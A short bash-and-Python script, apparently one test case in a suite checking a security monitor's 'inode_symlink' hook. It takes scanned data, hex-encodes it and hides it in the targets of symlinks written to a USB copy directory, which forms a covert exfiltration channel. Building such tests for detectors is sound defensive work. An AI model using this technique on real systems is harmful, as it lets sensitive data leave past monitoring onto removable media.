#!/usr/bin/env bash
# technique: the targets of symlinks on the USB disk hold the data
# hooks: inode_symlink
# sink: usb

. attack.sh
mkdir -p "$COPY"
python3 - <<'PY'
from attack import *

text = scan()[: 1 << 14].hex()
for start in range(0, len(text), 1000):
    os.symlink(text[start : start + 1000], f"{COPY}/{start}")
PY
